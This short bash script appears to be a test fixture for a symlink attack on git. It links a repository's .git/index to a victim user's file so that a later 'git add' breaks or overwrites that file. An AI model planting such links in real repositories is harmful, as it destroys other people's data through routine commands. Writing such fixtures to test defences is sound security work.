#!/bin/bash -e
# .git/index is a link to a file of the user.
# host: add
# harm: breaks
# alone
ln -sf "$VICTIM/file" "$GITDIR/index"
